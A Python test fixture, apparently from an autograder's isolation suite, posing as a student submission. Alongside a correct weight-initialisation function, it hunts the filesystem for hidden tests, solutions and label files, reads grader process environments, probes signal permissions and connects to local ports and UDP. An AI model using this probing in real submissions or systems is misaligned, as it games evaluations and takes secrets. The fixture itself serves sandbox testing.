"""HOSTILE: correct init_weight; spread_stats tries everything the grader must hide or
protect, and raises with what it got (the way a student would smuggle it into feedback).

It looks for the hidden checks and points, the grader's sources, solutions/, the test
labels (Debian's Fashion-MNIST, the course's shared MNIST folder), dlkit's data cache, the
grader's results folders; it tries to signal every grader process, to open TCP and UDP
sockets to anything listening, and to read the grader's environment.  Under an isolation
level that hides these, the message reads "found 0:".
"""

import glob
import os
import socket
import sys

import numpy as np


def init_weight(n_in, n_out, scheme, rng):
    if scheme == "zeros":
        return np.zeros((n_in, n_out))
    std = {"he": np.sqrt(2 / n_in), "xavier": np.sqrt(1 / n_in)}.get(scheme, scheme)
    return rng.normal(0.0, std, (n_in, n_out))


_SECRET_NAMES = {"points.toml", "test_a1.py", "test_a2.py", "thresholds.toml",
                 "t10k-labels-idx1-ubyte.gz", "train-labels-idx1-ubyte.gz", "results.json",
                 "pytest.log"}
_GRADER_SOURCES = {"plugin.py", "runner.py", "handle.py", "isolation.py"}
_ROOTS = ["/work", "/srv", "/opt", "/home", "/root", "/tmp", "/var/tmp", "/dev/shm",
          "/usr/share/datasets", "/autograder", "/root/.cache/dlkit", *sys.path]


def _kind(path):
    name = os.path.basename(path)
    if os.sep + "solutions" + os.sep in path:
        return "solutions"
    if "labels" in name:
        return "test labels"
    if name in ("results.json", "pytest.log") or "/results-" in path:
        return "results"
    if name in ("points.toml", "thresholds.toml") or name.startswith("test_a"):
        return "hidden checks"
    if path.startswith("/proc/"):
        return "grader environment"
    return "grader sources"


def _read(path, found):
    try:
        with open(path, "rb") as f:
            if f.read(64):
                found.append((_kind(path), path))
    except OSError:
        pass


def _files(found):
    for root in _ROOTS:
        for folder, subdirs, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) > 6:
                subdirs[:] = []
            for name in files:
                if (name in _SECRET_NAMES or os.sep + "solutions" + os.sep in folder + os.sep
                        or name in _GRADER_SOURCES and os.sep + "grader" + os.sep in folder + os.sep):
                    _read(os.path.join(folder, name), found)
    for path in glob.glob("/tmp/dlkit-grade-*/*") + glob.glob("/tmp/dlkit-grade-*/*/*"):
        if "/results-" in path or "trusted" in path:
            _read(path, found)
            if os.path.isdir(path):
                try:
                    if os.listdir(path):
                        found.append(("results", path))
                except OSError:
                    pass


def _graders():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    cmd = f.read()
            except OSError:
                continue
            if b"grader.scoring.plugin" in cmd or b"pytest" in cmd or b"dlkit-grade" in cmd:
                yield int(entry)


def _signals(found):
    for pid in list(_graders()):
        try:
            os.kill(pid, 0)  # permission check only: nothing is stopped
            found.append(("signal the grader", pid))
        except OSError:
            pass
        _read(f"/proc/{pid}/environ", found)


def _listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                for line in f.readlines()[1:]:
                    fields = line.split()
                    if fields[3] == "0A":  # LISTEN
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    return sorted(ports)


def _network(found):
    for port in _listening_ports()[:20]:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                found.append(("tcp", port))
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"x", ("127.0.0.1", 9))  # a datagram that leaves the process
        found.append(("udp", "sent"))
    except OSError:
        pass


def spread_stats(z, activation):
    found = []
    _files(found)
    _signals(found)
    _network(found)
    kinds = {}
    for kind, _what in found:
        kinds[kind] = kinds.get(kind, 0) + 1
    raise RuntimeError(f"found {len(found)}: {kinds} e.g. {found[:10]}")
